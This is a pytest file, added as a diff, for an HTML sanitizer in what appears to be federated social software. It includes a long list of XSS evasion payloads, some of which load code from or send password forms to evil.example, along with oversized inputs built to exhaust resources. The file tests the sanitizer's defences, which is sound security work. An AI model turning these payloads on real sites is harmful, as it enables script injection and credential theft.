@@ -1,0 +1,270 @@
+import time
+
+import pytest
+
+from fedcom.text import html
+from fedcom.text.html import MAX_PLAIN, first_line, sanitize, to_text
+from tests.fedcom.text.strict_reader import read_strictly
+
+LINK_END = ' rel="nofollow noopener noreferrer"'
+
+# After the OWASP "XSS Filter Evasion" cheat sheet, and what broke others of our trade.
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/xss src=//evil.example></script>",
+    "<script\n>alert(1)</script\n>",
+    "<<script>alert(1);//\\<</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://a.example/x.png' onerror=alert(1)>",
+    "<img src=javascript:alert(1)>",
+    '<img """><script>alert(1)</script>">',
+    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
+    "<img src=http://tracker.example/pixel.gif>",
+    "<img src=//tracker.example/pixel.gif>",
+    "<img srcset='https://a.example/x 2x' src='https://a.example/x'>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=JaVaScRiPt:alert(1)>x</a>",
+    "<a href='jav\tascript:alert(1)'>x</a>",
+    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
+    "<a href=' &#14; javascript:alert(1)'>x</a>",
+    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
+    "<a href='&#0000106avascript:alert(1)'>x</a>",
+    "<a href='\x01javascript:alert(1)'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
+    "<a href='feed:javascript:alert(1)'>x</a>",
+    "<a href='view-source:javascript:alert(1)'>x</a>",
+    "<a href='//evil.example'>x</a>",
+    "<a href='/\\evil.example'>x</a>",
+    "<a href='/u/me/delete'>x</a>",
+    "<a href='https://a.example' onclick=alert(1)>x</a>",
+    "<a href='https://a.example' target=_blank style='position:fixed'>x</a>",
+    "<a onmouseover=alert(1)>x</a>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style>"
+    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<template><script>alert(1)</script></template>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=https://evil.example/x.swf>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example';</style>",
+    "<p style=background:url(javascript:alert(1))>x</p>",
+    "<p style='position:fixed;inset:0'>x</p>",
+    "<p id=csrf name=csrf class='btn admin'>x</p>",
+    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
+    "<body onload=alert(1)>x</body>",
+    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
+    "<details ontoggle=alert(1) open>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<title><a title='</title><img src=x onerror=alert(1)>'>",
+    "<plaintext><script>alert(1)</script>",
+    "<xss style=behavior:url(xss.htc)>x</xss>",
+    "<b <script>alert(1)</script>0",
+    "<b/onclick=alert(1)>x</b>",
+    "<b x='>' onclick=alert(1)>x</b>",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("around", ["{}", "<p>a {} b</p>", "<ul><li>{}</ul>", "<table><td>{}"])
+def test_an_attack_leaves_only_allowed_tags_and_attributes(attack, around):
+    clean = sanitize(around.format(attack))
+    read_strictly(clean)
+    assert sanitize(clean).count("<") == clean.count("<")
+
+
+@pytest.mark.parametrize(
+    ("given", "kept"),
+    [
+        ("<p>a<br>b</p>", "<p>a<br>b</p>"),
+        ("<h2>T</h2><hr>", "<h2>T</h2><hr>"),
+        ("<blockquote><p>q</p></blockquote>", "<blockquote><p>q</p></blockquote>"),
+        ("<pre><code>x &lt; y</code></pre>", "<pre><code>x &lt; y</code></pre>"),
+        ('<ol start="3"><li>c</li></ol>', '<ol start="3"><li>c</li></ol>'),
+        ("<details><summary>s</summary>t</details>", "<details><summary>s</summary>t</details>"),
+        ('<strong class="x" onclick="y">s</strong>', "<strong>s</strong>"),
+        ("<figure>a</figure>", "a"),
+        ('<p lang="de" title="x">a</p>', '<p lang="de">a</p>'),
+        ("a &amp; b &lt;i&gt;", "a &amp; b &lt;i&gt;"),
+        (
+            '<a class="u-url mention" href="https://a.example/@b">@<span>b</span></a>',
+            f'<a class="mention" href="https://a.example/@b"{LINK_END}>@<span>b</span></a>',
+        ),
+        (
+            '<a href="https://a.example/?x=1&y=2" rel="me" target="_blank">l</a>',
+            f'<a href="https://a.example/?x=1&amp;y=2"{LINK_END}>l</a>',
+        ),
+        (
+            '<span class="invisible">https://</span><span class="ellipsis">a.example</span>',
+            '<span class="invisible">https://</span><span class="ellipsis">a.example</span>',
+        ),
+        ('<a href="mailto:a@b.example">m</a>', f'<a href="mailto:a@b.example"{LINK_END}>m</a>'),
+    ],
+)
+def test_honest_markup_stays(given, kept):
+    assert sanitize(given) == kept
+
+
+def test_an_image_is_lazy_and_tells_nobody_where_it_stands():
+    clean = sanitize('<img src="https://a.example/x.png" alt="a cat" width="1">')
+    for attribute in [
+        'src="https://a.example/x.png"',
+        'alt="a cat"',
+        'loading="lazy"',
+        'referrerpolicy="no-referrer"',
+    ]:
+        assert attribute in clean
+    assert "width" not in clean
+
+
+@pytest.mark.parametrize(
+    ("given", "kept"),
+    [
+        ("a\x00b\x08c", "abc"),
+        ("safe\u202egnp.exe", "safegnp.exe"),
+        ("half \ud800 a character", "half  a character"),
+        ("&#0;&#xD800;", "\ufffd\ufffd"),
+        ("שלום \u2067ok\u2069", "שלום \u2067ok\u2069"),
+    ],
+)
+def test_characters_that_cannot_be_stored_or_turn_text_around_are_dropped(given, kept):
+    clean = sanitize(given)
+    assert clean == kept
+    clean.encode()
+
+
+HUGE = {
+    "text": "x" * 1_000_000,
+    "ampersands": "&" * 1_000_000,
+    "ampersands below the limit": "&" * 99_999,
+    "less-thans": "<" * 1_000_000,
+    "unclosed blocks": "<div>" * 200_000,
+    "unclosed blocks below the limit": "<div>" * 9_999,
+    "lists": "<ul><li>" * 4_999,
+    "tables": "<table><tr><td>" * 3_333,
+    "formatting that is opened again in every block": "".join(
+        f"<b x={number}>" for number in range(4_000)
+    )
+    + "<p>x" * 4_000,
+    "the same with quotes": "".join(f'<FONT a=">" x={number}>' for number in range(4_000))
+    + "<p>x" * 4_000,
+    "formatting and blocks": "<b><p>" * 4_999,
+    "attributes": "<a " + "x=1 " * 240_000 + ">",
+    "tags without an end": "<b " * 300_000,
+    "comments": "<!--" * 250_000,
+    "quotes": '<a href="' * 100_000,
+}
+
+
+@pytest.mark.parametrize("given", HUGE.values(), ids=HUGE.keys())
+def test_a_megabyte_costs_less_than_a_second_and_does_not_grow(given):
+    started = time.process_time()
+    clean = sanitize(given)
+    text = to_text(given)
+    first_line(given, 200)
+    assert time.process_time() - started < 3
+    assert len(clean) < 1_200_000
+    assert len(text) <= 1_000_000
+
+
+def test_a_thousand_levels_are_no_trouble():
+    clean = sanitize("<div>" * 1_000 + "deep" + "</div>" * 1_000)
+    assert to_text(clean) == "deep"
+
+
+def test_what_is_too_long_is_shown_as_its_text():
+    clean = sanitize("<p>one</p><script>&lt;two</script>" + "<i>x</i>" * 200_000)
+    assert clean.startswith("<p>one<br>&lt;twoxxx")
+    assert len(clean) < MAX_PLAIN + 100
+
+
+class _Panic(BaseException):
+    """What a panic of the Rust library looks like from here."""
+
+
+class _Broken:
+    def clean(self, text):
+        raise self.error
+
+
+@pytest.mark.parametrize("error", [ValueError, RecursionError, MemoryError, _Panic])
+def test_a_sanitizer_that_fails_leaves_escaped_text(monkeypatch, error):
+    broken = _Broken()
+    broken.error = error
+    monkeypatch.setattr(html, "_CLEANER", broken)
+    assert sanitize("<p>a &lt;script&gt; b</p><p onclick=x>c") == "<p>a &lt;script&gt; b<br>c</p>"
+    assert to_text("<p>a</p><p>b</p>") == "a\nb"
+
+
+def test_an_interrupt_is_not_mistaken_for_a_failing_sanitizer(monkeypatch):
+    broken = _Broken()
+    broken.error = KeyboardInterrupt
+    monkeypatch.setattr(html, "_CLEANER", broken)
+    with pytest.raises(KeyboardInterrupt):
+        sanitize("a")
+
+
+@pytest.mark.parametrize(
+    ("given", "text"),
+    [
+        ("<p>a</p><p>b</p>", "a\nb"),
+        ("a<br>b<br/>c", "a\nb\nc"),
+        ("<ul><li>a</li><li>b</li></ul>", "a\nb"),
+        ("<p>x &lt;b&gt; &amp;amp; y</p>", "x <b> &amp; y"),
+        ("<script>no</script>yes", "yes"),
+        ("<p>  </p>", ""),
+        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
+        ("", ""),
+    ],
+)
+def test_html_becomes_lines_of_text(given, text):
+    assert to_text(given) == text
+
+
+H_CARD = (
+    '<span class="h-card" translate="no"><a href="https://here.example/c/cats" '
+    'class="u-url mention">@<span>{}</span></a></span>'
+)
+
+
+@pytest.mark.parametrize(
+    ("given", "title"),
+    [
+        ("<p>Hello world</p><p>More</p>", "Hello world"),
+        ("<p>Hello<br>More</p>", "Hello"),
+        (f"<p>{H_CARD.format('cats')} Hello</p>", "Hello"),
+        (f"<p>{H_CARD.format('cats@here.example')} Hello</p>", "Hello"),
+        (f"<p>{H_CARD.format('cats')} {H_CARD.format('dogs')}, hello</p>", "hello"),
+        (f"<p>{H_CARD.format('cats')}</p><p>Hello</p>", "Hello"),
+        (f"<p>Hello {H_CARD.format('cats')}</p>", "Hello @cats"),
+        (f"<p>{H_CARD.format('cats')}</p>", ""),
+        ("!cats@here.example: Hello", "Hello"),
+        ("<p>cats@here.example wrote</p>", "cats@here.example wrote"),
+        ("<p>@ noon we meet</p>", "@ noon we meet"),
+        ("<p>a\u202eb &amp; c\u200b</p>", "ab & c"),
+        ("", ""),
+    ],
+)
+def test_the_title_of_a_note_is_its_first_line_without_leading_mentions(given, title):
+    assert first_line(given, 200) == title
+
+
+def test_a_long_first_line_is_cut_between_words():
+    assert first_line("<p>one two three four</p>", 15) == "one two three…"
